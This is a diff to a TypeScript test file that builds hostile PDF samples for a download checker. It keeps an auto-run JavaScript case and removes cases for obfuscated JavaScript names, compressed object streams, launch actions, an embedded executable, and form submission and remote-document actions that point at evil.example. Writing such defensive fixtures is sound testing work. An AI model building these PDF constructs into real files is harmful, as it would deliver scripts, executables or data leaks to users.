@@ -9,8 +9,7 @@ import {
   relation,
   zipOf,
 } from '../../support/office-files.ts';
-import { flate, makePdf, objectStream, stream } from './pdf/make-pdf.ts';
-import { updated } from './pdf/rewritten.ts';
+import { flate, makePdf, stream } from './pdf/make-pdf.ts';
 
 const MIB = 1024 * 1024;
 const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
@@ -27,38 +26,6 @@ type HostileDownload = readonly [
 
 const PDFS: readonly HostileDownload[] = [
   ['JavaScript at its opening', 'program', 'pdf', () => makePdf({ catalog: `/OpenAction ${script}` })],
-  [
-    'JavaScript in other letters',
-    'program',
-    'pdf',
-    () => makePdf({ objects: [script.replace('JavaScript', 'J#61vaScript')] }),
-  ],
-  ['JavaScript in a compressed object stream', 'program', 'pdf', () => makePdf({ objects: [objectStream(script)] })],
-  ['a program to start', 'program', 'pdf', () => Buffer.from(updated(makePdf(), { page: `/AA << /O ${launch} >>` }))],
-  [
-    'an attached file',
-    'content',
-    'pdf',
-    () => makePdf({ objects: ['<< /F (a.exe) /EF << /F 6 0 R >> >>', stream('', Buffer.from('MZ'))] }),
-  ],
-  [
-    'a form that is sent',
-    'action',
-    'pdf',
-    () => makePdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
-  ],
-  [
-    'another document to open',
-    'action',
-    'pdf',
-    () => makePdf({ objects: ['<< /S /GoToR /F (//evil.example/a.pdf) >>'] }),
-  ],
-  [
-    'XFA',
-    'program',
-    'pdf',
-    () => makePdf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: [stream('', Buffer.from('<xdp/>'))] }),
-  ],
   [
     'a password',
     'password',
